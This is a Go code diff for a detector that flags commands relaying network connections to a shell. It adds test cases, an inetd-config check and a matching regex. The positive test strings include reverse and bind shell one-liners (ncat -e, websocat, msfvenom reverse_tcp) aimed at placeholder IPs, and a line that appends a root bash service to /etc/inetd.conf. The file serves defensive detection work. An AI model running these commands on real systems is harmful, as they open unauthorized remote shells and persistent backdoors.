@@ -33,11 +33,11 @@ var shellRelayTool = Detector{
 		"ncat -v 198.51.100.7 9 --sh-exec 'exec sh -i'",
 		"rcat connect -s bash 198.51.100.7 55600",
 	), lines(coi.High,
-		"nc -lvp 9000 -e /bin/sh 127.0.0.1",
+		"ncat -e $(command -v zsh-x) --ssl 198.51.100.7 8443", "nc -lvp 9000 -e /bin/sh 127.0.0.1",
 		"socat TCP-LISTEN:9000,fork EXEC:/opt/app/handler",
 		"busybox telnetd -l /bin/sh -p 9999",
 		"websocat ws://203.0.113.9:8080 sh-c:'exec bash -i'",
-		"systemd-socket-activate -l 4444 --inetd -a /bin/bash",
+		"echo '99 stream tcp nowait root /bin/bash bash -i' >> /etc/inetd.conf", "systemd-socket-activate -l 4444 --inetd -a /bin/bash",
 		"websocketd --port=8080 bash", "xinetd -f /dev/stdin <<< 'service x { port=4444 server=/bin/bash }'",
 		"msfvenom -p linux/x64/shell_reverse_tcp LHOST=198.51.100.7 LPORT=1 -f elf -o /tmp/e",
 	)...),
@@ -45,7 +45,7 @@ var shellRelayTool = Detector{
 		"nc -z localhost 8080", "nc -vz -w 5 host 1-100", "socat - TCP:host:80", "socat TCP-LISTEN:80,fork TCP:b:80",
 		"echo -e 'GET / HTTP/1.1\\n\\n' | nc host 80", "nc -k -U -l /tmp/n.sock", "nc -c example.test 443",
 		"ncat -l 8080 --keep-open", "while ! nc -z db 5432; do sleep 1; done", "socat UNIX-LISTEN:/tmp/a,fork TCP:127.0.0.1:80",
-		"apt-get install -y netcat-traditional socat", "nc -e", "systemd-socket-activate -l 8080 ./server", "websocketd --port=8080 ./count.sh", "websocat ws://203.0.113.9:8080", "msfvenom --list payloads", "rg 'nc -e /bin/sh' .",
+		"asciinema rec a.cast -c 'bash demo.sh'", "hyperfine -e bash -N 2>/dev/null", "./wrapper -e bash script.sh 10", "./loadgen tcp://203.0.113.9:9000 exec:./handler", "apt-get install -y netcat-traditional socat", "nc -e", "systemd-socket-activate -l 8080 ./server", "websocketd --port=8080 ./count.sh", "websocat ws://203.0.113.9:8080", "msfvenom --list payloads", "rg 'nc -e /bin/sh' .",
 	),
 }
 
@@ -53,6 +53,11 @@ var shellRelayTool = Detector{
 var servesShell = regexp.MustCompile(`\b(?:server\s*=\s*|nowait\s+\S+\s+)\S*/(?:ba|z|da|k)?sh\b`)
 
 func relayTool(s *command.Simple, _ track.View) *Finding {
+	for _, a := range s.Accesses() {
+		if changes(a.Op) && hasPrefixAny(a.Path, "/etc/inetd.conf", "/etc/xinetd") && servesShell.MatchString(a.Text) {
+			return say(s, coi.High, "shell offered on a port by inetd").at(a.Path, a.Op)
+		}
+	}
 	p := s.Parsed()
 	switch s.Name {
 	case "nc", "ncat", "cryptcat", "pwncat", "sbd":
@@ -112,6 +117,9 @@ func handed(s *command.Simple, v string, listen bool, operands int) *Finding {
 	w := strings.Fields(v)
 	if len(w) == 0 || operands == 0 && !listen {
 		return nil
+	}
+	if strings.HasPrefix(v, "$()") && s.Parsed().Has("e", "exec") {
+		return say(s, coi.High, "connection handed to a program").to(outHost(s))
 	}
 	shell := program.ShellPath(v) || program.ClassOf(w[0]) == program.Interpreter
 	if !shell && !strings.Contains(w[0], "/") {
